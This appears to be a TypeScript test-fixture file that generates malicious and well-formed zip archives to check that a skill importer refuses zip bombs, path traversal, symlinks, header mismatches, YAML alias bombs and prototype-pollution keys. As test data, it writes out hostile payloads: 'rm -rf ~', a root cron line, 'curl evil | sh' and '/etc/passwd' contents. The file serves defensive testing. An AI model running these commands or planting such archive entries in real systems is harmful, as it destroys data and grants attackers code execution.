/**
 * Generated archives for the zip importer: hostile ones with the code they must be refused
 * with, and well-formed ones in every accepted shape. Built in code (fflate for well-formed
 * archives, hand-written bytes for malformed ones) so nothing binary is checked in. The unit
 * tests run them through `scanZip`; API tests can POST the same bytes to the import route.
 */
import { Zip, ZipDeflate, zipSync, type Zippable } from 'fflate'
import type { ImportErrorCode } from '../lib/import/types'
import { localFieldsOf, localHeaderBytes, rawZip, unicodePathExtra, utf8, type RawZipEntry } from '../lib/import/zip/test-support'

export type ArchiveExpectation =
  /** readZip or findSkills throws this code; `entry` is details.entry when the refusal names one. */
  | { outcome: 'refused'; code: ImportErrorCode; entry?: string }
  /** A candidate named `skill` is found but its inspection has this error finding (the route answers invalid_skill). */
  | { outcome: 'invalid'; skill: string; finding: string }
  /** These skills are found, all valid; `ignored` paths are reported as ignored. */
  | { outcome: 'accepted'; skills: string[]; ignored?: string[] }

export interface ArchiveCase {
  name: string
  /** Why the archive is interesting. */
  about: string
  build: () => Uint8Array
  expect: ArchiveExpectation
}

const MiB = 1024 * 1024

type Content = string | Uint8Array
type FileSpec = Content | { data: Content; executable?: boolean }

/** A SKILL.md with a valid frontmatter for `name`, plus extra frontmatter lines. */
export function skillMd(name: string, extra: readonly string[] = [], body = '# Steps\n\nDo the thing.\n'): string {
  return ['---', `name: ${name}`, `description: Does ${name} things. Use it when ${name} is asked for.`, ...extra, '---', body].join('\n')
}

/** A well-formed zip written by fflate, with Unix modes (0755 for executables, 0644 otherwise). */
export function wellFormedZip(files: Record<string, FileSpec>, level: 0 | 6 | 9 = 6): Uint8Array {
  const input = Object.create(null) as Zippable
  for (const [path, spec] of Object.entries(files)) {
    const { data, executable = false } = typeof spec === 'string' || spec instanceof Uint8Array ? { data: spec } : spec
    const mode = executable ? 0o100755 : 0o100644
    input[path] = [typeof data === 'string' ? utf8(data) : data, { os: 3, attrs: (mode << 16) >>> 0, level }]
  }
  return zipSync(input)
}

/** Bytes that do not compress (xorshift), so sizes in the archive are real sizes. */
export function noise(length: number, seed = 1): Uint8Array {
  const out = new Uint8Array(length)
  let x = seed >>> 0 || 1
  for (let i = 0; i < length; i += 1) {
    x ^= x << 13
    x ^= x >>> 17
    x ^= x << 5
    out[i] = x & 0xff
  }
  return out
}

const zeros = (length: number) => new Uint8Array(length)

const skill = (name = 'my-skill'): RawZipEntry => ({ name: `${name}/SKILL.md`, data: skillMd(name), method: 8 })

const refused = (code: ImportErrorCode, entry?: string): ArchiveExpectation =>
  entry === undefined ? { outcome: 'refused', code } : { outcome: 'refused', code, entry }

/** YAML whose aliases expand to 9^9 strings ("billion laughs"). */
const ALIAS_BOMB = [
  'lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...'bcdefghi'.split('').map((letter, index) => {
    const previous = 'abcdefghi'[index]
    return `${letter}: &${letter} [${Array.from({ length: 9 }, () => `*${previous}`).join(',')}]`
  }),
]

/** A streaming zip as fflate's Zip class writes it: data descriptors, zero sizes in local headers. */
function streamedZip(files: Record<string, string>): Uint8Array {
  const chunks: Uint8Array[] = []
  const zip = new Zip((error, chunk) => {
    if (error) throw error
    chunks.push(chunk)
  })
  for (const [path, text] of Object.entries(files)) {
    const file = new ZipDeflate(path, { level: 6 })
    file.os = 3
    file.attrs = (0o100644 << 16) >>> 0
    zip.add(file)
    file.push(utf8(text), true)
  }
  zip.end()
  return Buffer.concat(chunks)
}

/** Entry B's local header and data hidden inside entry A's stored data, with a central record pointing at it. */
function overlappingEntries(): Uint8Array {
  const nameA = 'my-skill/a.txt'
  const hidden: RawZipEntry = { name: 'my-skill/b.txt', data: 'hidden' }
  const insideA = Buffer.concat([localHeaderBytes(localFieldsOf(hidden)), utf8('hidden')])
  return rawZip([
    { name: nameA, data: insideA },
    { ...hidden, centralOnly: true, centralOffset: 30 + utf8(nameA).byteLength },
    skill(),
  ])
}

const SKILL_JSON = {
  name: 'disk_cleaner',
  description: 'Free up disk by clearing stale build caches and journals.',
  schema: {
    type: 'object',
    properties: { path: { type: 'string', description: 'Root path to clean.' }, dry_run: { type: 'boolean', default: true } },
    required: ['path'],
  },
  entry: 'run.sh',
  env_allow: ['PATH', 'HOME'],
  timeout_seconds: 60,
  class: 'mutating',
  category: 'ops',
}

const manifest = (fields: Record<string, unknown>) => JSON.stringify({ ...SKILL_JSON, ...fields })

export function hostileArchives(): ArchiveCase[] {
  return [
    {
      name: 'zip-bomb-one-file',
      about: '30 MiB of zeros in one entry, about 30 KiB compressed; the header says so',
      build: () => rawZip([skill(), { name: 'my-skill/zeros.bin', data: zeros(30 * MiB), method: 8 }]),
      expect: refused('file_too_large', 'my-skill/zeros.bin'),
    },
    {
      name: 'zip-bomb-many-files',
      about: '25 entries of 1 MiB zeros each: every file within its limit, 25 MiB in all',
      build: () =>
        rawZip([skill(), ...Array.from({ length: 25 }, (_, i) => ({ name: `my-skill/z${i}.bin`, data: zeros(MiB), method: 8 }))]),
      expect: refused('skill_too_large'),
    },
    {
      name: 'zip-bomb-lying-header',
      about: 'headers claim 1,000 bytes; the deflate stream inflates to 50 MiB of zeros',
      build: () =>
        rawZip([
          skill(),
          {
            name: 'my-skill/zeros.bin',
            data: zeros(50 * MiB),
            method: 8,
            local: { uncompressedSize: 1000 },
            central: { uncompressedSize: 1000 },
          },
        ]),
      expect: refused('zip_invalid', 'my-skill/zeros.bin'),
    },
    {
      name: 'header-claims-more-than-data',
      about: 'headers claim 100,000 bytes; the data inflates to 11',
      build: () =>
        rawZip([
          skill(),
          { name: 'my-skill/notes.txt', data: 'hello world', method: 8, local: { uncompressedSize: 100_000 }, central: { uncompressedSize: 100_000 } },
        ]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'ten-thousand-entries',
      about: '10,000 empty entries; refused from the central directory count before inflating',
      build: () => wellFormedZip(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`many/f${i}`, ''])), 0),
      expect: refused('too_many_files'),
    },
    {
      name: 'dot-dot-name',
      about: 'zip slip: ../evil.sh',
      build: () => rawZip([skill(), { name: '../evil.sh', data: 'rm -rf ~' }]),
      expect: refused('path_unsafe', '../evil.sh'),
    },
    {
      name: 'dot-dot-inside-name',
      about: 'zip slip through a skill folder: my-skill/../../etc/cron.d/x',
      build: () => rawZip([skill(), { name: 'my-skill/../../etc/cron.d/x', data: '* * * * * root sh' }]),
      expect: refused('path_unsafe', 'my-skill/../../etc/cron.d/x'),
    },
    {
      name: 'absolute-name',
      about: 'an absolute path: /etc/passwd',
      build: () => rawZip([skill(), { name: '/etc/passwd', data: 'root::0:0::/:/bin/sh' }]),
      expect: refused('path_unsafe', '/etc/passwd'),
    },
    {
      name: 'backslash-name',
      about: 'Windows separators that some unzips turn into folders: my-skill\\..\\..\\evil.bat',
      build: () => rawZip([skill(), { name: 'my-skill\\..\\..\\evil.bat', data: 'del *' }]),
      expect: refused('path_unsafe', 'my-skill\\..\\..\\evil.bat'),
    },
    {
      name: 'drive-letter-name',
      about: 'a drive letter: C:/Windows/evil.dll',
      build: () => rawZip([skill(), { name: 'C:/Windows/evil.dll', data: 'MZ' }]),
      expect: refused('path_unsafe', 'C:/Windows/evil.dll'),
    },
    {
      name: 'control-character-name',
      about: 'a BEL in a file name (terminal and log injection)',
      build: () => rawZip([skill(), { name: 'my-skill/scripts/run\u0007.sh', data: 'echo' }]),
      expect: refused('path_unsafe', 'my-skill/scripts/run\\u0007.sh'),
    },
    {
      name: 'empty-segment-name',
      about: 'a doubled slash: my-skill//SKILL.md',
      build: () => rawZip([{ name: 'my-skill//SKILL.md', data: skillMd('my-skill') }]),
      expect: refused('path_unsafe', 'my-skill//SKILL.md'),
    },
    {
      name: 'unicode-path-extra-field',
      about: 'a harmless raw name whose Info-ZIP Unicode Path extra field says ../evil.sh (what unzip extracts)',
      build: () => rawZip([skill(), { name: 'my-skill/notes.txt', data: 'x', extra: unicodePathExtra(utf8('my-skill/notes.txt'), '../evil.sh') }]),
      expect: refused('path_unsafe', '../evil.sh'),
    },
    {
      name: 'symlink',
      about: 'a symbolic link to /etc/passwd (S_IFLNK)',
      build: () => rawZip([skill(), { name: 'my-skill/passwd', data: '/etc/passwd', mode: 0o120777 }]),
      expect: refused('link_entry', 'my-skill/passwd'),
    },
    {
      name: 'fifo',
      about: 'a named pipe (S_IFIFO)',
      build: () => rawZip([skill(), { name: 'my-skill/pipe', mode: 0o010644 }]),
      expect: refused('link_entry', 'my-skill/pipe'),
    },
    {
      name: 'character-device',
      about: 'a character device (S_IFCHR)',
      build: () => rawZip([skill(), { name: 'my-skill/tty', mode: 0o020666 }]),
      expect: refused('link_entry', 'my-skill/tty'),
    },
    {
      name: 'block-device',
      about: 'a block device (S_IFBLK) claiming an MS-DOS host',
      build: () => rawZip([skill(), { name: 'my-skill/sda', mode: 0o060660, versionMadeBy: 0x0014 }]),
      expect: refused('link_entry', 'my-skill/sda'),
    },
    {
      name: 'duplicate-entries',
      about: 'the same name twice; which copy wins depends on the unzip',
      build: () => rawZip([skill(), { name: 'my-skill/SKILL.md', data: skillMd('my-skill', [], '# Evil twin\n') }]),
      expect: refused('zip_invalid', 'my-skill/SKILL.md'),
    },
    {
      name: 'case-collision',
      about: 'SKILL.md and skill.md: one file on macOS and Windows',
      build: () => rawZip([skill(), { name: 'my-skill/skill.md', data: skillMd('my-skill') }]),
      expect: refused('path_collision', 'my-skill/skill.md'),
    },
    {
      name: 'nfc-nfd-collision',
      about: 'café.md composed (NFC) and decomposed (NFD): one file on APFS',
      build: () =>
        rawZip([skill(), { name: 'my-skill/caf\u00e9.md', data: 'one' }, { name: 'my-skill/cafe\u0301.md', data: 'two' }]),
      expect: refused('path_collision'),
    },
    {
      name: 'file-and-folder-collision',
      about: 'docs is a file and also the folder of docs/a.md',
      build: () => rawZip([skill(), { name: 'my-skill/docs', data: 'x' }, { name: 'my-skill/docs/a.md', data: 'y' }]),
      expect: refused('path_collision', 'my-skill/docs/a.md'),
    },
    {
      name: 'local-name-mismatch',
      about: 'the local header names the entry ../evil.sh, the central directory notes.txt',
      build: () => rawZip([skill(), { name: 'my-skill/notes.txt', data: 'hi', local: { name: utf8('../evil.sh.') } }]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'local-size-mismatch',
      about: 'the local header and the central directory disagree on the sizes',
      build: () => rawZip([skill(), { name: 'my-skill/notes.txt', data: 'hello', local: { compressedSize: 3, uncompressedSize: 3 } }]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'local-method-mismatch',
      about: 'the local header says stored, the central directory deflated',
      build: () => rawZip([skill(), { name: 'my-skill/notes.txt', data: 'hello hello hello', method: 8, local: { method: 0 } }]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'overlapping-entries',
      about: "an entry's local header and data hidden inside another entry's data",
      build: overlappingEntries,
      expect: refused('zip_invalid', 'my-skill/b.txt'),
    },
    {
      name: 'central-directory-longer-than-counted',
      about: 'the end record counts 1 entry; the central directory holds 2',
      build: () => rawZip([skill(), { name: 'my-skill/hidden.sh', data: 'curl evil | sh' }], { entryCount: 1 }),
      expect: refused('zip_invalid'),
    },
    {
      name: 'truncated',
      about: 'the first 60% of a valid archive',
      build: () => {
        const whole = wellFormedZip({ 'my-skill/SKILL.md': skillMd('my-skill'), 'my-skill/data.bin': noise(4096) })
        return whole.slice(0, Math.floor(whole.byteLength * 0.6))
      },
      expect: refused('zip_invalid'),
    },
    {
      name: 'truncated-end-record',
      about: 'a valid archive missing its last 10 bytes',
      build: () => {
        const whole = wellFormedZip({ 'my-skill/SKILL.md': skillMd('my-skill') })
        return whole.slice(0, whole.byteLength - 10)
      },
      expect: refused('zip_invalid'),
    },
    {
      name: 'bytes-cut-from-middle',
      about: 'a valid archive with 100 bytes removed from its data, so every offset after the cut is wrong',
      build: () => {
        const whole = wellFormedZip({ 'my-skill/SKILL.md': skillMd('my-skill'), 'my-skill/data.bin': noise(4096) }, 0)
        return Buffer.concat([whole.subarray(0, 1000), whole.subarray(1100)])
      },
      expect: refused('zip_invalid'),
    },
    {
      name: 'not-a-zip',
      about: 'a text file with a .zip name',
      build: () => utf8('This is not a zip archive, just text.\n'.repeat(20)),
      expect: refused('zip_invalid'),
    },
    {
      name: 'empty-file',
      about: 'zero bytes',
      build: () => new Uint8Array(),
      expect: refused('zip_invalid'),
    },
    {
      name: 'encrypted-entry',
      about: 'general purpose bit 0 (traditional PKWARE encryption)',
      build: () => rawZip([skill(), { name: 'my-skill/secret.txt', data: 'x'.repeat(12 + 4), flags: 0x1, central: { uncompressedSize: 4 }, local: { uncompressedSize: 4 } }]),
      expect: refused('encrypted_entry', 'my-skill/secret.txt'),
    },
    {
      name: 'strong-encryption',
      about: 'bits 0 and 6 (strong encryption), which yauzl refuses while listing',
      build: () => rawZip([skill(), { name: 'my-skill/secret.txt', data: 'secret', flags: 0x41 }]),
      expect: refused('encrypted_entry', 'my-skill/secret.txt'),
    },
    {
      name: 'bad-crc',
      about: 'the data does not match the CRC-32 in both headers',
      build: () => rawZip([skill(), { name: 'my-skill/notes.txt', data: 'hello', local: { crc: 0x12345678 }, central: { crc: 0x12345678 } }]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'stored-size-mismatch',
      about: 'a stored entry whose compressed and uncompressed sizes differ',
      build: () =>
        rawZip([skill(), { name: 'my-skill/notes.txt', data: 'hi', local: { uncompressedSize: 5 }, central: { uncompressedSize: 5 } }]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'unsupported-compression',
      about: 'compression method 12 (bzip2)',
      build: () => rawZip([skill(), { name: 'my-skill/notes.txt', data: 'hi', method: 12 }]),
      expect: refused('zip_invalid', 'my-skill/notes.txt'),
    },
    {
      name: 'utf8-flag-invalid-name',
      about: 'a name marked UTF-8 whose bytes are not UTF-8',
      build: () => rawZip([skill(), { name: new Uint8Array([0x6d, 0x79, 0xff, 0xfe]), data: 'x', flags: 0x800 }]),
      expect: refused('zip_invalid'),
    },
    {
      name: 'directory-with-data',
      about: 'a directory entry that carries file data',
      build: () => rawZip([skill(), { name: 'my-skill/docs/', data: 'payload', mode: 0o040755 }]),
      expect: refused('zip_invalid', 'my-skill/docs/'),
    },
    {
      name: 'file-over-1-mib',
      about: 'one file of 1 MiB + 1 byte',
      build: () => rawZip([skill(), { name: 'my-skill/big.bin', data: noise(MiB + 1), method: 8 }]),
      expect: refused('file_too_large', 'my-skill/big.bin'),
    },
    {
      name: 'skill-over-5-mib',
      about: 'six 1 MiB files in one skill: within the archive limit, over the skill limit',
      build: () => rawZip([skill(), ...Array.from({ length: 6 }, (_, i) => ({ name: `my-skill/z${i}.bin`, data: zeros(MiB), method: 8 }))]),
      expect: refused('skill_too_large'),
    },
    {
      name: 'skill-over-200-files',
      about: '201 files in one skill',
      build: () =>
        wellFormedZip({ 'my-skill/SKILL.md': skillMd('my-skill'), ...Object.fromEntries(Array.from({ length: 200 }, (_, i) => [`my-skill/refs/r${i}.md`, `# ${i}\n`])) }),
      expect: refused('too_many_files'),
    },
    {
      name: 'two-folders-one-skill-name',
      about: 'pdf/ and skills/pdf/ would both become the skill pdf',
      build: () => wellFormedZip({ 'pdf/SKILL.md': skillMd('pdf'), 'skills/pdf/SKILL.md': skillMd('pdf') }),
      expect: refused('path_collision'),
    },
    {
      name: 'skill-json-entry-outside',
      about: "skill.json's entry climbs out of the folder: ../../bin/sh",
      build: () => wellFormedZip({ 'disk-cleaner/skill.json': manifest({ entry: '../../bin/sh' }), 'disk-cleaner/run.sh': 'echo' }),
      expect: refused('path_unsafe'),
    },
    {
      name: 'skill-json-entry-absolute',
      about: "skill.json's entry is an absolute path",
      build: () => wellFormedZip({ 'disk-cleaner/skill.json': manifest({ entry: '/bin/sh' }), 'disk-cleaner/run.sh': 'echo' }),
      expect: refused('path_unsafe'),
    },
    {
      name: 'skill-json-entry-missing',
      about: "skill.json's entry names a file the folder does not have",
      build: () => wellFormedZip({ 'disk-cleaner/skill.json': manifest({ entry: 'missing.sh' }), 'disk-cleaner/run.sh': 'echo' }),
      expect: refused('manifest_invalid'),
    },
    {
      name: 'skill-json-wrong-type',
      about: 'timeout_seconds given as text',
      build: () => wellFormedZip({ 'disk-cleaner/skill.json': manifest({ timeout_seconds: '60' }), 'disk-cleaner/run.sh': 'echo' }),
      expect: refused('manifest_invalid'),
    },
    {
      name: 'macos-clutter-only',
      about: '__MACOSX/ and .DS_Store and nothing else',
      build: () =>
        wellFormedZip({ '__MACOSX/._SKILL.md': noise(64), '.DS_Store': noise(64, 2), 'docs/.DS_Store': noise(64, 3), 'Thumbs.db': noise(32, 4) }),
      expect: refused('no_skill_found'),
    },
    {
      name: 'invalid-utf8-skill-md',
      about: 'SKILL.md with bytes that are not UTF-8',
      build: () =>
        rawZip([{ name: 'my-skill/SKILL.md', data: Buffer.concat([utf8(skillMd('my-skill')), new Uint8Array([0xc3, 0x28, 0xff])]) }]),
      expect: { outcome: 'invalid', skill: 'my-skill', finding: 'skill_md_invalid_utf8' },
    },
    {
      name: 'yaml-alias-bomb',
      about: 'billion laughs in the frontmatter',
      build: () => wellFormedZip({ 'my-skill/SKILL.md': skillMd('my-skill', ALIAS_BOMB) }),
      expect: { outcome: 'invalid', skill: 'my-skill', finding: 'yaml_alias_limit' },
    },
    {
      name: 'path-too-deep-inside-skill',
      about: 'nine levels inside the skill folder',
      build: () => wellFormedZip({ 'my-skill/SKILL.md': skillMd('my-skill'), 'my-skill/a/b/c/d/e/f/g/h/deep.md': 'deep' }),
      expect: { outcome: 'invalid', skill: 'my-skill', finding: 'path_unsafe' },
    },
    {
      name: 'proto-keys-in-frontmatter',
      about: '__proto__ and constructor keys at the top and under metadata, kept as data',
      build: () =>
        wellFormedZip({
          'proto-skill/SKILL.md': skillMd('proto-skill', [
            '__proto__:',
            '  polluted: yes',
            'constructor:',
            '  prototype:',
            '    polluted: yes',
            'metadata:',
            '  __proto__: polluted',
            '  constructor: polluted',
          ]),
        }),
      expect: { outcome: 'accepted', skills: ['proto-skill'] },
    },
    {
      name: 'proto-keys-in-skill-json',
      about: '__proto__ and constructor keys in skill.json, kept as metadata text',
      build: () =>
        wellFormedZip({
          'disk-cleaner/skill.json': `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}, ${manifest({}).slice(1)}`,
          'disk-cleaner/run.sh': { data: '#!/bin/sh\necho {}\n', executable: true },
        }),
      expect: { outcome: 'accepted', skills: ['disk-cleaner'] },
    },
    {
      name: 'nested-zip',
      about: 'a zip inside the skill, itself holding ../evil: kept as a plain file, never opened',
      build: () =>
        wellFormedZip({
          'my-skill/SKILL.md': skillMd('my-skill'),
          'my-skill/assets/inner.zip': rawZip([{ name: '../evil.sh', data: 'rm -rf ~' }]),
        }),
      expect: { outcome: 'accepted', skills: ['my-skill'] },
    },
  ]
}

/** Archives in every accepted shape, with what the importer must find. */
export function acceptedArchives(): ArchiveCase[] {
  return [
    {
      name: 'root-skill-md',
      about: 'SKILL.md at the archive root; the name comes from the frontmatter',
      build: () => wellFormedZip({ 'SKILL.md': skillMd('root-skill'), 'scripts/run.sh': { data: '#!/bin/sh\necho hi\n', executable: true } }),
      expect: { outcome: 'accepted', skills: ['root-skill'] },
    },
    {
      name: 'one-top-folder',
      about: 'one folder holding the skill',
      build: () =>
        wellFormedZip({
          'pdf-tools/SKILL.md': skillMd('pdf-tools'),
          'pdf-tools/scripts/extract.py': { data: 'print(1)\n', executable: true },
          'pdf-tools/references/forms.md': '# Forms\n',
          'pdf-tools/assets/logo.png': noise(2048),
        }),
      expect: { outcome: 'accepted', skills: ['pdf-tools'] },
    },
    {
      name: 'several-top-folders',
      about: 'several skill folders at the top, and a README outside them',
      build: () =>
        wellFormedZip({
          'README.md': '# My skills\n',
          'alpha/SKILL.md': skillMd('alpha'),
          'beta/skill.md': skillMd('beta'),
          'gamma/SKILL.md': skillMd('gamma'),
          'gamma/templates/SKILL.md': '# a template, part of gamma\n',
        }),
      expect: { outcome: 'accepted', skills: ['alpha', 'beta', 'gamma'], ignored: ['README.md'] },
    },
    {
      name: 'skills-folder',
      about: 'folders under skills/, as in anthropics/skills',
      build: () =>
        wellFormedZip({
          'skills/docx/SKILL.md': skillMd('docx'),
          'skills/docx/scripts/pack.py': { data: 'pass\n', executable: true },
          'skills/xlsx/SKILL.md': skillMd('xlsx'),
          'spec/agent-skills-spec.md': 'see the site\n',
        }),
      expect: { outcome: 'accepted', skills: ['docx', 'xlsx'], ignored: ['spec/agent-skills-spec.md'] },
    },
    {
      name: 'github-download',
      about: "a repository download: repo-main/skills/<name>/…, nested 10 levels deep in the archive",
      build: () =>
        wellFormedZip({
          'repo-main/README.md': '# repo\n',
          'repo-main/.claude-plugin/marketplace.json': '{}',
          'repo-main/skills/webapp-testing/SKILL.md': skillMd('webapp-testing'),
          'repo-main/skills/webapp-testing/examples/a/b/c/d/e/f.py': 'pass\n',
        }),
      expect: { outcome: 'accepted', skills: ['webapp-testing'], ignored: ['repo-main/README.md', 'repo-main/.claude-plugin/marketplace.json'] },
    },
    {
      name: 'dot-skill-file',
      about: "a .skill file as skill-creator's package_skill.py writes it: <name>/… entries, deflated",
      build: () =>
        wellFormedZip({
          'brand-guidelines/SKILL.md': skillMd('brand-guidelines'),
          'brand-guidelines/LICENSE.txt': 'Apache-2.0\n',
        }),
      expect: { outcome: 'accepted', skills: ['brand-guidelines'] },
    },
    {
      name: 'macos-archive-utility',
      about: 'a skill zipped in Finder: __MACOSX/ copies, .DS_Store, directory entries, UTF-8 names without the flag',
      build: () =>
        rawZip([
          { name: 'my-skill/', mode: 0o040755 },
          { name: 'my-skill/SKILL.md', data: skillMd('my-skill'), method: 8 },
          { name: 'my-skill/.DS_Store', data: noise(64) },
          { name: utf8('my-skill/r\u00e9sum\u00e9.md'), data: '# CV\n' },
          { name: '__MACOSX/my-skill/._SKILL.md', data: noise(82) },
        ]),
      expect: { outcome: 'accepted', skills: ['my-skill'], ignored: ['my-skill/.DS_Store', '__MACOSX/my-skill/._SKILL.md'] },
    },
    {
      name: 'windows-explorer',
      about: 'an MS-DOS host with DOS attributes and directory entries',
      build: () =>
        rawZip([
          { name: 'my-skill/', versionMadeBy: 0x0014, externalAttributes: 0x10 },
          { name: 'my-skill/SKILL.md', data: skillMd('my-skill'), method: 8, versionMadeBy: 0x0014, externalAttributes: 0x20 },
          { name: 'my-skill/Thumbs.db', data: noise(40), versionMadeBy: 0x0014, externalAttributes: 0x22 },
        ]),
      expect: { outcome: 'accepted', skills: ['my-skill'], ignored: ['my-skill/Thumbs.db'] },
    },
    {
      name: 'streamed-with-data-descriptors',
      about: "a streaming writer's zip: sizes after the data, zeros in the local headers",
      build: () => streamedZip({ 'my-skill/SKILL.md': skillMd('my-skill'), 'my-skill/notes.md': '# Notes\n'.repeat(50) }),
      expect: { outcome: 'accepted', skills: ['my-skill'] },
    },
    {
      name: 'skill-json-manifest',
      about: 'a subprocess skill (skill.json + run.sh), converted to SKILL.md',
      build: () =>
        wellFormedZip({ 'disk-cleaner/skill.json': manifest({}), 'disk-cleaner/run.sh': { data: '#!/bin/sh\necho {}\n', executable: true } }),
      expect: { outcome: 'accepted', skills: ['disk-cleaner'] },
    },
    {
      name: 'skill-md-and-skill-json',
      about: 'both SKILL.md and skill.json: SKILL.md wins, skill.json stays a plain file',
      build: () =>
        wellFormedZip({
          'disk-cleaner/SKILL.md': skillMd('disk-cleaner'),
          'disk-cleaner/skill.json': manifest({}),
          'disk-cleaner/run.sh': 'echo {}\n',
        }),
      expect: { outcome: 'accepted', skills: ['disk-cleaner'] },
    },
  ]
}
